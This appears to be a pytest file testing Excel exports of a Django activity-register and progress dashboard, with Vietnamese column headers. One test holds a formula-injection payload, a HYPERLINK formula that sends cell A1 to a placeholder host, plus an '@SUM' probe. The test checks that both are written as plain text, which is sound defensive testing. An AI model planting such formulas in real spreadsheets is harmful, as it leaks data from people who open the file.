"""Exports opened with openpyxl / python-docx and their figures checked."""
import io

import pytest
from openpyxl import load_workbook

from nscl.accounts.models import Role

pytestmark = pytest.mark.django_db


def test_register_excel_has_vietnamese_headers_and_real_numbers(client, make_user, data):
    client.force_login(make_user(Role.VIEWER))
    resp = client.get("/registers/class/?year=2023&format=xlsx")
    assert resp["Content-Type"].startswith("application/vnd.openxmlformats")
    ws = load_workbook(io.BytesIO(resp.content)).active
    headers = [c.value for c in ws[1]]
    assert headers[:4] == ["STT", "Tên hoạt động", "Ngày bắt đầu", "Ngày kết thúc"]
    assert "Kinh phí đã chi (đ)" in headers and "Chủ đề" in headers and "Đã xác nhận" in headers
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 2
    spent = headers.index("Kinh phí đã chi (đ)")
    assert sorted(r[spent] for r in rows) == [9_000_000, 12_345_678]
    assert all(isinstance(r[spent], (int, float)) for r in rows)
    assert ws.cell(row=2, column=spent + 1).number_format == '#,##0 "đ"'
    assert ws.cell(row=2, column=3).number_format == "dd/mm/yyyy"
    assert rows[0][2].year == 2023


def test_register_excel_writes_user_text_as_text(client, make_user, make_activity):
    """Probe: a record titled =HYPERLINK(...) came out as a live formula (OWASP CSV injection)."""
    evil = '=HYPERLINK("http://x/?"&A1,"click")'
    make_activity("class", 2023, title=evil, fund_source="@SUM(1+1)")
    client.force_login(make_user(Role.VIEWER))
    ws = load_workbook(io.BytesIO(client.get("/registers/class/?format=xlsx").content)).active
    headers = [c.value for c in ws[1]]
    title = ws.cell(row=2, column=headers.index("Tên hoạt động") + 1)
    assert title.value == evil and title.data_type == "s" and title.quotePrefix
    notes = ws.cell(row=2, column=headers.index("Nguồn kinh phí") + 1)
    assert notes.value == "@SUM(1+1)" and notes.data_type == "s"
    spent = ws.cell(row=2, column=headers.index("Kinh phí đã chi (đ)") + 1)
    assert spent.value == 9_000_000 and spent.data_type == "n"  # numbers stay numbers


def test_dashboard_excel(client, settings, data):
    settings.NSCL_PUBLIC_PROGRESS = True
    ws = load_workbook(io.BytesIO(client.get("/progress/export.xlsx?phase=2021-2025&year=2025").content)).active
    headers = [c.value for c in ws[3]]
    assert headers[:10] == ["Mã", "Mục tiêu", "Nội dung", "Đơn vị tính", "Dạng", "Tối thiểu", "Tối đa", "Thực hiện",
                            "Trạng thái", "Đơn vị chủ trì"]
    rows = {r[0]: r for r in ws.iter_rows(min_row=4, values_only=True)}
    mt3 = rows["MT3"]
    assert (mt3[5], mt3[6], mt3[7], mt3[8]) == (20, 20, 5, "Không đạt")
    assert mt3[headers.index("Năm 2022")] == 4 and mt3[headers.index("Năm 2023")] == 1
    assert rows["MT9"][6] is None and rows["MT5"][6] == 30
